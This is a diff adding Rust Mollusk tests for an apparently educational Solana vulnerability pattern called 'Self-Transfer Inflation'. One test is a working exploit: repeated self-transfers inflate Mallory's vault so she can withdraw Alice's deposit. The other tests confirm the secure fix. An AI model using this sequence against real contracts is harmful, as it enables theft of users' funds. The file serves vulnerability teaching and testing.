@@ -0,0 +1,283 @@
+// Mollusk tests for Pattern 228
+/// # Pattern 228: Self-Transfer Inflation — Mollusk Exploit Tests
+///
+/// Alice has 1 SOL in vault 0, and Mallory has 0.5 SOL in vault 1. The bank
+/// holds their 1.5 SOL above its rent-exempt minimum. The tests check the
+/// bank's invariant: the vaults' balances sum to its `total`, and `total`
+/// is what it holds above rent.
+///
+/// - Test 1: EXPLOIT — two transfer_vulnerable calls from vault 1 to vault
+///   1 raise Mallory's balance to 1.5 SOL, and Mallory withdraws all of it.
+/// - Test 2: SECURE — transfer_secure refuses a transfer from vault 1 to
+///   vault 1.
+/// - Test 3: SECURE — transfer_secure from vault 1 to vault 0 moves the
+///   balance, and both withdraw what they hold.
+/// - Test 4: SANITY — transfer_vulnerable between two different vaults
+///   keeps the invariant.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::{AccountSharedData, ReadableAccount},
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    rent::Rent,
+};
+use test_harness::{account_discriminator, ix_discriminator, Ledger};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("3bA4ot7DnEwTe4QWxMMxgffni4XYuymAKwd8NLX7WrHx");
+
+const WALLET: u64 = 1_000_000_000;
+const ALICE_DEPOSIT: u64 = 1_000_000_000;
+const MALLORY_DEPOSIT: u64 = 500_000_000;
+const MAX_VAULTS: usize = 8;
+
+/// 8 disc + 32 admin + 8 total + 1 count + 8 * (32 owner + 8 balance)
+/// vaults + 1 bump.
+const BANK_LEN: usize = 370;
+/// Where `total` starts; `count` and the vaults follow.
+const TOTAL_OFFSET: usize = 40;
+const VAULTS_OFFSET: usize = 49;
+const VAULT_LEN: usize = 40;
+
+// Error codes
+const SELF_TRANSFER: u32 = 6000;
+const OVERFLOW: u32 = 6005;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Bank account with `vaults` open and the rest empty:
+///   [8 disc][32 admin][8 total][1 count][8 * (32 owner, 8 balance)][1 bump]
+fn serialize_bank(admin: &Pubkey, total: u64, vaults: &[(Pubkey, u64)], bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(BANK_LEN);
+    data.extend_from_slice(&account_discriminator("Bank"));
+    data.extend_from_slice(admin.as_ref());
+    data.extend_from_slice(&total.to_le_bytes());
+    data.push(vaults.len() as u8);
+    for index in 0..MAX_VAULTS {
+        let (owner, balance) = vaults.get(index).copied().unwrap_or_default();
+        data.extend_from_slice(owner.as_ref());
+        data.extend_from_slice(&balance.to_le_bytes());
+    }
+    data.push(bump);
+    data
+}
+
+fn read_u64(data: &[u8], offset: usize) -> u64 {
+    u64::from_le_bytes(data[offset..offset + 8].try_into().unwrap())
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    bank: Pubkey,
+    alice: Pubkey,
+    mallory: Pubkey,
+    ledger: Ledger,
+}
+
+impl Setup {
+    /// A bank with Alice's deposit in vault 0 and Mallory's in vault 1.
+    fn new() -> Self {
+        let mollusk = Mollusk::new(&PROGRAM_ID, "self_transfer_inflation");
+        let admin = Pubkey::new_unique();
+        let alice = Pubkey::new_unique();
+        let mallory = Pubkey::new_unique();
+        let (bank, bump) = Pubkey::find_program_address(&[b"bank"], &PROGRAM_ID);
+
+        let total = ALICE_DEPOSIT + MALLORY_DEPOSIT;
+        let mut bank_account = AccountSharedData::new(Self::rent() + total, BANK_LEN, &PROGRAM_ID);
+        bank_account.set_data_from_slice(&serialize_bank(
+            &admin,
+            total,
+            &[(alice, ALICE_DEPOSIT), (mallory, MALLORY_DEPOSIT)],
+            bump,
+        ));
+
+        let ledger = vec![
+            (bank, bank_account),
+            (alice, system_account()),
+            (mallory, system_account()),
+        ];
+
+        Self {
+            mollusk,
+            bank,
+            alice,
+            mallory,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    fn rent() -> u64 {
+        Rent::default().minimum_balance(BANK_LEN)
+    }
+
+    /// transfer_vulnerable or transfer_secure, signed by `owner`.
+    fn transfer(&self, name: &str, owner: &Pubkey, from: u8, to: u8, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.push(from);
+        data.push(to);
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.bank, false),
+                AccountMeta::new_readonly(*owner, true),
+            ],
+        )
+    }
+
+    /// withdraw by `owner` from vault `index`.
+    fn withdraw(&self, owner: &Pubkey, index: u8, amount: u64) -> Instruction {
+        let mut data = ix_discriminator("withdraw").to_vec();
+        data.push(index);
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.bank, false),
+                AccountMeta::new(*owner, true),
+            ],
+        )
+    }
+
+    /// Balances of vault 0 and vault 1.
+    fn balances(&self) -> [u64; 2] {
+        let data = self.ledger.data(&self.bank);
+        [0, 1].map(|index| read_u64(data, VAULTS_OFFSET + index * VAULT_LEN + 32))
+    }
+
+    /// Whether the vaults sum to `total`, and `total` is what the bank
+    /// holds above rent.
+    fn invariant_holds(&self) -> bool {
+        let bank = self.ledger.account(&self.bank);
+        let total = read_u64(bank.data(), TOTAL_OFFSET);
+        self.balances().iter().sum::<u64>() == total && bank.lamports() == Self::rent() + total
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_self_transfer_inflates_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: Alice has 1 SOL in vault 0, Mallory 0.5 SOL in vault 1
+    //   1. Mallory: transfer_vulnerable(from 1, to 1, 0.5 SOL) × 2
+    //   2. Mallory: withdraw(1, 1.5 SOL)
+    //   3. Alice:   withdraw(0, 1 SOL)
+    //
+    // Expected: 1 SUCCEEDS twice, and vault 1 reads 1.5 SOL while the bank
+    //           still holds 1.5 SOL. 2 SUCCEEDS and pays Mallory all of
+    //           it. 3 FAILS with Overflow (6005): Alice's vault still reads
+    //           1 SOL, and the bank has nothing left to pay it with.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (alice, mallory) = (s.alice, s.mallory);
+    assert!(s.invariant_holds());
+
+    let ix = s.transfer("transfer_vulnerable", &mallory, 1, 1, MALLORY_DEPOSIT);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    let stolen = ALICE_DEPOSIT + MALLORY_DEPOSIT;
+    assert_eq!(s.balances(), [ALICE_DEPOSIT, stolen]);
+    assert!(!s.invariant_holds());
+
+    let ix = s.withdraw(&mallory, 1, stolen);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    assert_eq!(s.ledger.lamports(&mallory), WALLET + stolen);
+    assert_eq!(s.ledger.lamports(&s.bank), Setup::rent());
+
+    let ix = s.withdraw(&alice, 0, ALICE_DEPOSIT);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(OVERFLOW))]);
+    assert_eq!(s.ledger.lamports(&alice), WALLET);
+}
+
+#[test]
+fn secure_self_transfer_rejected() {
+    // -----------------------------------------------------------------------
+    // SECURE: Alice has 1 SOL in vault 0, Mallory 0.5 SOL in vault 1
+    //   Mallory: transfer_secure(from 1, to 1, 0.5 SOL)
+    //
+    // Expected: FAILS with SelfTransfer (6000). Both balances and the
+    //           invariant are unchanged.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let mallory = s.mallory;
+
+    let ix = s.transfer("transfer_secure", &mallory, 1, 1, MALLORY_DEPOSIT);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(SELF_TRANSFER))]);
+    assert_eq!(s.balances(), [ALICE_DEPOSIT, MALLORY_DEPOSIT]);
+    assert!(s.invariant_holds());
+}
+
+#[test]
+fn secure_transfer_moves_balance() {
+    // -----------------------------------------------------------------------
+    // SECURE: Alice has 1 SOL in vault 0, Mallory 0.5 SOL in vault 1
+    //   1. Mallory: transfer_secure(from 1, to 0, 0.2 SOL)
+    //   2. Alice:   withdraw(0, 1.2 SOL); Mallory: withdraw(1, 0.3 SOL)
+    //
+    // Expected: all SUCCEED. The transfer moves 0.2 SOL and the invariant
+    //           holds after every step. The withdrawals empty the bank to
+    //           its rent-exempt minimum.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (alice, mallory) = (s.alice, s.mallory);
+    let amount = 200_000_000;
+
+    let ix = s.transfer("transfer_secure", &mallory, 1, 0, amount);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    assert_eq!(
+        s.balances(),
+        [ALICE_DEPOSIT + amount, MALLORY_DEPOSIT - amount]
+    );
+    assert!(s.invariant_holds());
+
+    let ix = s.withdraw(&alice, 0, ALICE_DEPOSIT + amount);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    assert!(s.invariant_holds());
+    let ix = s.withdraw(&mallory, 1, MALLORY_DEPOSIT - amount);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    assert!(s.invariant_holds());
+
+    assert_eq!(
+        s.ledger.lamports(&alice),
+        WALLET + ALICE_DEPOSIT + amount
+    );
+    assert_eq!(
+        s.ledger.lamports(&mallory),
+        WALLET + MALLORY_DEPOSIT - amount
+    );
+    assert_eq!(s.ledger.lamports(&s.bank), Setup::rent());
+}
+
+#[test]
+fn sanity_vulnerable_transfer_between_vaults() {
+    // -----------------------------------------------------------------------
+    // SANITY: Alice has 1 SOL in vault 0, Mallory 0.5 SOL in vault 1
+    //   Mallory: transfer_vulnerable(from 1, to 0, 0.2 SOL)
+    //
+    // Expected: SUCCEEDS. Between two different vaults, the copies don't
+    //           overlap, and the invariant holds.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let mallory = s.mallory;
+    let amount = 200_000_000;
+
+    let ix = s.transfer("transfer_vulnerable", &mallory, 1, 0, amount);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    assert_eq!(
+        s.balances(),
+        [ALICE_DEPOSIT + amount, MALLORY_DEPOSIT - amount]
+    );
+    assert!(s.invariant_holds());
+}